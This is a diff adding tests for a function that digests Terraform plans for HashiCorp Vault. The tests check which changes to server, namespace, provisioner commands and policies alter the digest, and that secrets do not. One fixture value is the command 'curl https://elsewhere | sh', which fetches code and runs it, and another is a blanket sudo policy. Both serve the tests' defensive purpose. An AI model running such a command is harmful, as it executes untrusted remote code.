@@ -26,7 +26,6 @@ test.each(RECORDED_PLANS)('the digest of the plan %s does not hang on when and h
     prior_state: {},
     planned_values: {},
     resource_drift: [],
-    configuration: {},
     checks: [],
     resource_changes: [...(plan.resource_changes ?? [])].reverse(),
   };
@@ -162,4 +161,104 @@ test.each<[what: string, isIt: boolean, changes: readonly MadeChange[], rest: ob
 test('who agrees to a change in staging has not agreed to the same in production', () => {
   const plan = planOf([POLICY]);
   expect(planDigest(plan, 'shop-staging-access')).not.toBe(planDigest(plan, 'shop-production-access'));
+});
+
+const VAULT = 'registry.terraform.io/hashicorp/vault';
+const to = (expressions: object, more: object = {}) => ({
+  configuration: { provider_config: { vault: { name: 'vault', full_name: VAULT, expressions } }, ...more },
+});
+const block = (of: object) => ({
+  configuration: {
+    root_module: {
+      resources: [
+        { address: 'vault_policy.store', mode: 'managed', type: 'vault_policy', name: 'store', ...of },
+      ],
+    },
+  },
+});
+const program = (command: string) =>
+  block({ provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: command } } }] });
+const CREATE = { ...POLICY, actions: ['create'], before: null };
+const UNKNOWN = { ...CREATE, after: {}, after_unknown: { policy: true } };
+
+test.each<[what: string, change: MadeChange, one: object, other: object]>([
+  [
+    'server',
+    POLICY,
+    to({ address: { constant_value: 'https://vault.example' } }),
+    to({ address: { constant_value: 'https://vault.elsewhere' } }),
+  ],
+  ['namespace', POLICY, to({}), to({ namespace: { constant_value: 'team' } })],
+  [
+    'server by a variable',
+    POLICY,
+    { ...to({ address: { references: ['var.address'] } }), variables: { address: { value: 'https://a' } } },
+    { ...to({ address: { references: ['var.address'] } }), variables: { address: { value: 'https://b' } } },
+  ],
+  ['program that is run', CREATE, program('true'), program('curl https://elsewhere | sh')],
+  [
+    'source of what an apply tells',
+    UNKNOWN,
+    block({ expressions: { policy: { references: ['terraform_data.a.output', 'terraform_data.a'] } } }),
+    block({ expressions: { policy: { references: ['terraform_data.b.output', 'terraform_data.b'] } } }),
+  ],
+])('another %s is another plan', (_, change, one, other) => {
+  expect(digest(change, one)).not.toBe(digest(change, other));
+});
+
+test.each<[what: string, change: MadeChange, one: object, other: object]>([
+  [
+    "the provider's token",
+    POLICY,
+    to({ token: { constant_value: 'made-up-one' } }),
+    to({ token: { constant_value: 'made-up-two' } }),
+  ],
+  ['a program that is not run', POLICY, program('true'), program('false')],
+  [
+    'the source of what is known',
+    CREATE,
+    block({ expressions: { policy: { references: ['terraform_data.a.output'] } } }),
+    block({ expressions: { policy: { constant_value: 'b' } } }),
+  ],
+])('%s makes no other plan', (_, change, one, other) => {
+  expect(digest(change, one)).toBe(digest(change, other));
+});
+
+test.each<[what: string, type: string, of: (rule: string) => object]>([
+  [
+    'what stands in a policy beside what looks like a secret',
+    'vault_policy',
+    (rule) => ({ policy: `path "auth/token=" { capabilities = ["read"] } ${rule}` }),
+  ],
+  [
+    'a policy that is written as a request',
+    'vault_generic_endpoint',
+    (rule) => ({ path: 'sys/policies/acl/store', data_json: JSON.stringify({ policy: rule }) }),
+  ],
+  [
+    'policies of a user that is written as a request',
+    'vault_generic_endpoint',
+    (rule) => ({
+      path: 'auth/userpass/users/bob',
+      data_json: JSON.stringify({ password: 'a', token_policies: [rule] }),
+    }),
+  ],
+])('%s is in it', (_, type, of) => {
+  const after = (rule: string) => ({ type, after: of(rule) as never, after_sensitive: { data_json: true } });
+  const [one, other] = ['', 'path "*" { capabilities = ["sudo"] }'].map((rule) => digest(after(rule)));
+  expect(one).not.toBe(other);
+});
+
+test('no password of a request and no token of a policy is in it', () => {
+  const user = (password: string) => ({
+    type: 'vault_generic_endpoint',
+    after: {
+      path: 'auth/userpass/users/bob',
+      data_json: JSON.stringify({ password, token_policies: ['a'] }),
+    },
+    after_sensitive: { data_json: true },
+  });
+  expect(digest(user('made-up-one'))).toBe(digest(user('made-up-two')));
+  const policy = (token: string) => ({ ...POLICY, after: { policy: `path "a/${token}" {}` } });
+  expect(digest(policy('hvs.madeupmadeupmadeup1'))).toBe(digest(policy('hvs.madeupmadeupmadeup2')));
 });
